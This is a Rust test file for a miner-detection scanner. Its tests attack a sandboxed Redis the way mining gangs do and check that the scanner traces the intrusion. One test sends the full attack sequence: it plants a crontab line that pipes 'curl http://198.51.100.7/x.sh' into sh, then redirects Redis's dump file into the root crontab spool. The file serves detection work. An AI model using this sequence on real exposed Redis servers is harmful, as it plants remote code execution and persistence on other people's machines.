//! Issue 13 scenarios: how it got in. A real Redis (Debian's redis-server)
//! in a network namespace of the test's own is attacked the way mining gangs
//! do it (CONFIG SET dir + SAVE into the crontab spool); a miner imitation
//! started under a Tomcat-like `java` is traced to its door (an SSH
//! session's environment alone names none); a hardened Redis and a clean machine give no
//! `entry.*` finding.
//!
//! Every test runs in its own mount+PID namespace (tests/common), with the
//! crontab spool and /etc on tmpfs; the network traffic stays inside a
//! namespace the test made.

mod common;

use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::*;
use serde_json::Value;

/// The address Redis binds in the test's network namespace: not loopback.
const ADDR: &str = "10.213.0.1";

/// A Redis server in a new network namespace, killed on drop.
struct RedisGuard {
    child: Child,
    pid: i32,
}

impl Drop for RedisGuard {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn have_redis() -> bool {
    Path::new("/usr/bin/redis-server").exists() && Path::new("/usr/bin/redis-cli").exists()
}

/// Starts `redis-server CONF` in a network namespace whose loopback also
/// carries [`ADDR`], and waits until it answers.
fn start_redis(conf: &str) -> RedisGuard {
    std::fs::create_dir_all("/etc/redis").unwrap();
    std::fs::write("/etc/redis/redis.conf", conf).unwrap();
    std::fs::create_dir_all("/var/lib/redis-quarry-test").unwrap();
    let script = format!(
        "ip link set lo up && ip addr add {ADDR}/32 dev lo && exec /usr/bin/redis-server /etc/redis/redis.conf"
    );
    let child = Command::new("unshare")
        .args(["-n", "sh", "-c", &script])
        .stdout(std::fs::File::create("/tmp/quarry-test-redis.log").unwrap())
        .stderr(std::fs::File::create("/tmp/quarry-test-redis.err").unwrap())
        .stdin(Stdio::null())
        .process_group(0)
        .spawn()
        .expect("unshare");
    let pid = child.id() as i32;
    let g = RedisGuard { child, pid };
    let t = Instant::now();
    let mut last = String::new();
    loop {
        let exe = std::fs::read_link(format!("/proc/{pid}/exe")).unwrap_or_default();
        // Debian's redis-server is a link to redis-check-rdb.
        if exe.ends_with("redis-server") || exe.ends_with("redis-check-rdb") {
            let (ok, out) = redis_cli(pid, conf, &["PING"]);
            if ok && (out.contains("PONG") || out.contains("NOAUTH")) {
                return g;
            }
            last = out;
        }
        assert!(
            t.elapsed() < Duration::from_secs(10),
            "redis did not start: {last} {} {}",
            std::fs::read_to_string("/tmp/quarry-test-redis.log").unwrap_or_default(),
            std::fs::read_to_string("/tmp/quarry-test-redis.err").unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Runs redis-cli inside the server's network namespace.
fn redis_cli(pid: i32, conf: &str, args: &[&str]) -> (bool, String) {
    let host = if conf.contains("bind 127.0.0.1") {
        "127.0.0.1"
    } else {
        ADDR
    };
    let out = Command::new("nsenter")
        .args([
            "-n",
            "-t",
            &pid.to_string(),
            "/usr/bin/redis-cli",
            "-h",
            host,
        ])
        .args(args)
        .output()
        .expect("nsenter");
    (
        out.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

fn entry_findings(s: &Scan) -> Vec<&Value> {
    s.findings()
        .iter()
        .filter(|f| f["rule"].as_str().unwrap().starts_with("entry."))
        .collect()
}

fn evidence<'a>(f: &'a Value, key: &str) -> &'a str {
    f["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["key"] == key)
        .and_then(|e| e["value"].as_str())
        .unwrap_or_else(|| panic!("no {key} evidence: {f:#}"))
}

const OPEN_REDIS: &str = "bind 10.213.0.1\nport 6379\nprotected-mode no\ndaemonize no\n\
    logfile \"\"\ndir /var/lib/redis-quarry-test\n\
    # Redis 7 refuses CONFIG SET dir unless this is on; older Redis always allowed it.\n\
    enable-protected-configs yes\n";

#[test]
fn redis_to_cron_is_traced_to_the_open_redis() {
    sandboxed_clean!("redis_to_cron_is_traced_to_the_open_redis");
    if !have_redis() {
        eprintln!("SKIPPED: redis-server is not installed (.ci/run installs it)");
        return;
    }
    // Debian's spool: root:crontab 1730 (here root:root; only the mode matters).
    std::fs::create_dir_all("/var/spool/cron/crontabs").unwrap();
    std::fs::set_permissions(
        "/var/spool/cron/crontabs",
        std::os::unix::fs::PermissionsExt::from_mode(0o1730),
    )
    .unwrap();
    let r = start_redis(OPEN_REDIS);
    // The attack, as scanners send it.
    for cmd in [
        &["FLUSHALL"][..],
        &[
            "SET",
            "x",
            "\n\n*/1 * * * * curl -fsSL http://198.51.100.7/x.sh | sh\n\n",
        ],
        &["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"],
        &["CONFIG", "SET", "dbfilename", "root"],
        &["SAVE"],
    ] {
        let (ok, out) = redis_cli(r.pid, OPEN_REDIS, cmd);
        assert!(ok && !out.contains("ERR"), "{cmd:?}: {out}");
    }
    let tab = std::fs::read("/var/spool/cron/crontabs/root").unwrap();
    assert!(tab.starts_with(b"REDIS00"), "not an RDB file");

    let s = scan(&["--interval", "0.2"]);
    let e = entry_findings(&s);
    // The open door, with its config line.
    let door = e
        .iter()
        .find(|f| f["rule"] == "entry.redis")
        .unwrap_or_else(|| panic!("no entry.redis: {:#}", s.json["findings"]));
    assert_eq!(door["severity"], "critical");
    assert_eq!(door["subject"]["pid"], r.pid);
    assert_eq!(
        evidence(door, "protected-mode"),
        "no (/etc/redis/redis.conf:3)"
    );
    assert!(
        evidence(door, "listening").contains("10.213.0.1:6379"),
        "{door:#}"
    );
    assert!(evidence(door, "harden").contains("requirepass"), "{door:#}");
    // The crontab that is a Redis dump, and Redis's working directory.
    let dump = e
        .iter()
        .find(|f| {
            f["rule"] == "entry.redis-write"
                && f["subject"]["path"] == "/var/spool/cron/crontabs/root"
        })
        .unwrap_or_else(|| panic!("no dump finding: {:#}", s.json["findings"]));
    assert_eq!(dump["severity"], "critical");
    assert!(evidence(dump, "header").starts_with("REDIS00"), "{dump:#}");
    assert_eq!(dump["remedies"][0]["action"], "quarantine-file");
    let cwd = e
        .iter()
        .find(|f| f["rule"] == "entry.redis-write" && f["subject"]["pid"] == r.pid)
        .unwrap_or_else(|| panic!("no cwd finding: {:#}", s.json["findings"]));
    assert!(evidence(cwd, "working directory").starts_with("/var/spool/cron/crontabs"));
    // The timeline: Redis started (the open door), then the crontab was written.
    let tl = s.json["entry"]["timeline"].as_array().expect("a timeline");
    let pos = |needle: &str| {
        tl.iter()
            .position(|ev| ev["what"].as_str().unwrap().contains(needle))
            .unwrap_or_else(|| panic!("no {needle:?} event: {tl:#?}"))
    };
    let started = pos("redis-server started, serving an open door");
    let written = pos("/var/spool/cron/crontabs/root written (a Redis dump)");
    assert!(started <= written, "{tl:#?}");
    // The text report names it for a person.
    let (_, out, _) = quarry(&["scan", "--interval", "0.2", "--color", "never"]);
    let text = String::from_utf8_lossy(&out);
    assert!(text.contains("How it got in"), "{text}");
    assert!(
        text.contains("sign(s) of files written through Redis"),
        "{text}"
    );
    // fix lists the hardening step and quarantines the dump, nothing else.
    let (st, plan) = fix(&["--only", "entry.redis-write"], &[]);
    assert!(st.code().is_some(), "{plan}");
    assert!(plan.contains("doors to close by hand"), "{plan}");
    assert!(
        plan.contains("quarantine /var/spool/cron/crontabs/root"),
        "{plan}"
    );
}

#[test]
fn hardened_redis_and_a_clean_machine_give_no_entry_finding() {
    sandboxed_clean!("hardened_redis_and_a_clean_machine_give_no_entry_finding");
    let s = scan(&["--interval", "0.2"]);
    assert!(entry_findings(&s).is_empty(), "{:#}", s.json["findings"]);
    assert!(s.json.get("entry").is_none(), "{:#}", s.json["entry"]);
    if !have_redis() {
        eprintln!("SKIPPED (hardened Redis part): redis-server is not installed");
        return;
    }
    let hardened = "bind 127.0.0.1 -::1\nport 6379\nprotected-mode yes\ndaemonize no\n\
        logfile \"\"\ndir /var/lib/redis-quarry-test\nrequirepass quarry-test-secret-7f3a\n";
    let _r = start_redis(hardened);
    let s = scan(&["--interval", "0.2"]);
    assert!(entry_findings(&s).is_empty(), "{:#}", s.json["findings"]);
}

/// Kills a PID on drop (an orphan is no child of the test).
#[test]
fn lineage_names_the_door_tomcat_and_ssh() {
    sandboxed!("lineage_names_the_door_tomcat_and_ssh");
    let _f = install_burner("/tmp/.x/kdevtmpfsi");
    // A `java` (a copy of sh, so it can start a child) with Tomcat's command line.
    std::fs::create_dir_all("/opt/jdk/bin").unwrap();
    std::fs::copy("/bin/sh", "/opt/jdk/bin/java").unwrap();
    let java = start({
        let mut c = Command::new("/opt/jdk/bin/java");
        c.args([
            "-c",
            "/tmp/.x/kdevtmpfsi & wait",
            "-Dcatalina.base=/opt/tomcat",
            "org.apache.catalina.startup.Bootstrap",
            "start",
        ]);
        c
    });
    // A miner left behind by an SSH session: daemonised (its parent exits),
    // with the session's environment.
    let ssh = start({
        let mut c = Command::new("sh");
        c.args(["-c", "/tmp/.x/kdevtmpfsi --name xmr-ssh & exit 0"])
            .env_clear()
            .env("SSH_CONNECTION", "203.0.113.7 51234 10.0.0.5 22")
            .env("USER", "root")
            .env("PATH", "/usr/bin:/bin");
        c
    });
    let _k = KillGuard(ssh.pid);
    std::thread::sleep(Duration::from_millis(100));
    let s = scan(&["--interval", "0.3"]);
    let origins = s.json["entry"]["origins"]
        .as_array()
        .unwrap_or_else(|| panic!("no origins: {:#}", s.json));
    let of = |pid: i32| {
        origins
            .iter()
            .find(|o| o["pid"] == pid)
            .unwrap_or_else(|| panic!("no origin for {pid}: {origins:#?}"))
    };
    let t = of(java.pid);
    assert_eq!(t["door"]["kind"], "java-app", "{t:#}");
    assert!(
        t["door"]["summary"]
            .as_str()
            .unwrap()
            .starts_with("Tomcat (java, PID"),
        "{t:#}"
    );
    assert_eq!(t["chain"][1]["role"], "door", "{t:#}");
    // Its environment only claims an SSH login (no login record agrees:
    // tests/evidence.rs has the one where wtmp does): no door from it.
    let o = of(ssh.pid);
    assert!(
        !o["door"]["summary"]
            .as_str()
            .unwrap_or("")
            .contains("from 203.0.113.7"),
        "{o:#}"
    );
    // On the miner finding itself.
    let f = s.miner(java.pid).expect("miner finding");
    assert!(
        evidence(f, "came in through").starts_with("Tomcat"),
        "{f:#}"
    );
    assert!(evidence(f, "lineage").contains("java"), "{f:#}");
    // Each miner's start is in the timeline.
    let tl = s.json["entry"]["timeline"].as_array().unwrap();
    for pid in [java.pid, ssh.pid] {
        assert!(
            tl.iter().any(|e| e["what"]
                .as_str()
                .unwrap()
                .starts_with(&format!("PID {pid} "))),
            "{tl:#?}"
        );
    }
}
